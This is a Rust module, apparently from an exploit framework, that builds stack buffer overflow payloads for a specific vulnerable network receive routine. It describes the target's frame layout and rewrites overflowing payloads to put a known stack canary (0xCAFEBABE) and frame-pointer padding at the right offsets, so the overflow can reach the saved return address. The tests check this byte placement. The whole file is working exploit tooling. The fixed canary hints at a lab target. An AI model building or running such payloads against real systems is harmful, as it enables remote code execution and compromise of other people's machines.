//! # Target Layout & Canary Bypass
//!
//! Stack layout of the vulnerable receive frame on the target, and the
//! rewrite that keeps its canary intact while the rest of the payload
//! overflows.
//!
//! ```text
//!  0                 buffer_size      +4               +padding
//! +------------------+----------------+----------------+-------------------
//! | raw[..buf]       | canary (LE u32)| frame padding  | raw[buf..]  (RIP)
//! +------------------+----------------+----------------+-------------------
//! ```
//!
//! Payloads that fit in the buffer never reach the canary and pass through
//! untouched. The offsets are assumptions about one particular build of the
//! target; nothing here checks them against the running process.

use bytes::{BufMut, Bytes, BytesMut};

use crate::config::ConfigError;

/// Bytes before the canary slot in the target's receive frame.
pub const DEFAULT_BUFFER_SIZE: usize = 64;

/// Canary value the target compares against after `recvfrom`.
pub const DEFAULT_CANARY: u32 = 0xCAFE_BABE;

/// `'F'` for frame.
pub const DEFAULT_FRAME_PADDING_BYTE: u8 = 0x46;

/// Width of the saved frame pointer slot on x86-64.
pub const DEFAULT_FRAME_PADDING_LEN: usize = 8;

/// Width of the canary slot.
pub const CANARY_LEN: usize = 4;

/// Byte order the canary is stored in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CanaryOrder {
    #[default]
    LittleEndian,
}

/// Immutable description of the target's stack frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TargetLayout {
    buffer_size: usize,
    canary_value: u32,
    canary_order: CanaryOrder,
    frame_padding: Bytes,
}

impl TargetLayout {
    /// Validates and builds a layout. `buffer_size` must be non-zero.
    pub fn new(
        buffer_size: usize,
        canary_value: u32,
        frame_padding: impl Into<Bytes>,
    ) -> Result<Self, ConfigError> {
        if buffer_size == 0 {
            return Err(ConfigError::ZeroBufferSize);
        }
        Ok(TargetLayout {
            buffer_size,
            canary_value,
            canary_order: CanaryOrder::LittleEndian,
            frame_padding: frame_padding.into(),
        })
    }

    /// Layout whose frame padding is `len` copies of `byte`.
    pub fn with_filler(
        buffer_size: usize,
        canary_value: u32,
        byte: u8,
        len: usize,
    ) -> Result<Self, ConfigError> {
        Self::new(buffer_size, canary_value, vec![byte; len])
    }

    pub fn buffer_size(&self) -> usize {
        self.buffer_size
    }

    pub fn canary_value(&self) -> u32 {
        self.canary_value
    }

    pub fn frame_padding(&self) -> &[u8] {
        &self.frame_padding
    }

    /// Canary as it must appear on the wire.
    pub fn canary_bytes(&self) -> [u8; CANARY_LEN] {
        match self.canary_order {
            CanaryOrder::LittleEndian => self.canary_value.to_le_bytes(),
        }
    }

    /// Whether a payload of `len` bytes spills past the buffer.
    pub fn overflows(&self, len: usize) -> bool {
        len > self.buffer_size
    }

    /// Length of a `len`-byte payload after [`TargetLayout::apply`].
    pub fn rewritten_len(&self, len: usize) -> usize {
        if self.overflows(len) {
            len + CANARY_LEN + self.frame_padding.len()
        } else {
            len
        }
    }

    /// Rewrites `raw` so an overflow carries the expected canary and frame
    /// padding at the right offsets. Non-overflowing payloads are returned
    /// as-is.
    pub fn apply(&self, raw: Bytes) -> Bytes {
        if !self.overflows(raw.len()) {
            return raw;
        }

        let (prefix, tail) = raw.split_at(self.buffer_size);
        let mut out = BytesMut::with_capacity(self.rewritten_len(raw.len()));
        out.put_slice(prefix);
        out.put_slice(&self.canary_bytes());
        out.put_slice(&self.frame_padding);
        out.put_slice(tail);
        out.freeze()
    }
}

impl Default for TargetLayout {
    fn default() -> Self {
        TargetLayout {
            buffer_size: DEFAULT_BUFFER_SIZE,
            canary_value: DEFAULT_CANARY,
            canary_order: CanaryOrder::LittleEndian,
            frame_padding: Bytes::from(vec![DEFAULT_FRAME_PADDING_BYTE; DEFAULT_FRAME_PADDING_LEN]),
        }
    }
}

/// Free-function form of [`TargetLayout::apply`].
pub fn apply_bypass(raw: Bytes, layout: &TargetLayout) -> Bytes {
    layout.apply(raw)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rejects_zero_buffer() {
        let err = TargetLayout::new(0, DEFAULT_CANARY, Bytes::new()).unwrap_err();
        assert!(matches!(err, ConfigError::ZeroBufferSize));
    }

    #[test]
    fn short_payload_passes_through() {
        let layout = TargetLayout::default();
        let raw = Bytes::from(vec![0x41u8; 64]);
        let out = layout.apply(raw.clone());
        assert_eq!(out, raw);
        // No copy for the pass-through case.
        assert_eq!(out.as_ptr(), raw.as_ptr());
    }

    #[test]
    fn empty_payload_passes_through() {
        let layout = TargetLayout::default();
        assert!(layout.apply(Bytes::new()).is_empty());
    }

    #[test]
    fn deep_overflow_example() {
        let layout = TargetLayout::with_filler(64, 0xCAFE_BABE, 0x46, 8).unwrap();
        let out = layout.apply(Bytes::from(vec![0x41u8; 200]));

        assert_eq!(out.len(), 212);
        assert!(out[..64].iter().all(|&b| b == 0x41));
        assert_eq!(&out[64..68], &[0xBE, 0xBA, 0xFE, 0xCA]);
        assert_eq!(u32::from_le_bytes(out[64..68].try_into().unwrap()), 0xCAFE_BABE);
        assert!(out[68..76].iter().all(|&b| b == 0x46));
        assert_eq!(out[76..].len(), 136);
        assert!(out[76..].iter().all(|&b| b == 0x41));
    }

    #[test]
    fn one_byte_overflow() {
        let layout = TargetLayout::default();
        let mut raw = vec![0u8; 64];
        raw.push(0x99);
        let out = layout.apply(Bytes::from(raw));
        assert_eq!(out.len(), 65 + 4 + 8);
        assert_eq!(out[out.len() - 1], 0x99);
    }

    #[test]
    fn empty_padding_places_tail_after_canary() {
        let layout = TargetLayout::new(4, 0x0102_0304, Bytes::new()).unwrap();
        let out = layout.apply(Bytes::from_static(b"AAAABBBB"));
        assert_eq!(&out[..], b"AAAA\x04\x03\x02\x01BBBB");
    }

    #[test]
    fn rewritten_len_matches_apply() {
        let layout = TargetLayout::default();
        for len in [0usize, 1, 63, 64, 65, 128, 200] {
            let out = layout.apply(Bytes::from(vec![0u8; len]));
            assert_eq!(out.len(), layout.rewritten_len(len), "len {len}");
        }
    }

    #[test]
    fn canary_bytes_are_little_endian() {
        let layout = TargetLayout::default();
        assert_eq!(layout.canary_bytes(), [0xBE, 0xBA, 0xFE, 0xCA]);
    }

    #[test]
    fn custom_canary_lands_as_canary_bytes() {
        let layout = TargetLayout::with_filler(8, 0xDEAD_BEEF, 0x00, 2).unwrap();
        let out = layout.apply(Bytes::from(vec![0x41u8; 16]));
        assert_eq!(&out[8..12], &layout.canary_bytes());
        assert_eq!(&out[8..12], &[0xEF, 0xBE, 0xAD, 0xDE]);
    }

    #[test]
    fn free_function_matches_method() {
        let layout = TargetLayout::default();
        let raw = Bytes::from(vec![7u8; 100]);
        assert_eq!(apply_bypass(raw.clone(), &layout), layout.apply(raw));
    }
}
